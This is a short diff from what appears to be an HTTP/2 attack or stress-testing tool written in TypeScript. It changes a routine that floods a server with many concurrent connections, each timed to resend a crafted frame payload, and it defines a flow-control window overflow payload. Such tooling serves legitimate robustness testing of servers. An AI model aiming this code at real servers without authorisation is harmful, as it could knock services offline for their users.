@@ -179,11 +179,13 @@ function streams({ port, whole, open, unknown }: Kind): Attack[] {
   const get = getFields("/");
   const manyAtOnce = (fields: Fields, count: number) =>
     concat(Array.from({ length: count }, (_, at) => headers(at * 2 + 1, fields, true)));
-  /** Sends all in one write, waits a moment for what comes, and begins anew. */
-  const again = (bytes: Uint8Array, width = CONNECTIONS): Attack["run"] => (target) =>
-    target.keep(width, async (wire) => {
-      await wire.send(concat([OPENING, bytes]));
-      await pause(50);
+  /** Sends all in one write, stays for what comes, and begins anew. */
+  const again = (bytes: Uint8Array): Attack["run"] => (target) =>
+    target.keep(4 * CONNECTIONS, async (wire) => {
+      await wire.send(OPENING);
+      await pause(20); // the limits of the server's SETTINGS hold once they are acknowledged
+      await wire.send(bytes);
+      await Promise.race([wire.over, pause(400)]);
     });
   const overflow = concat([headers(1, get, true), windowUpdate(0, MAX_WINDOW), windowUpdate(0, MAX_WINDOW)]);
   const overflowLate: Attack["run"] = (target) =>
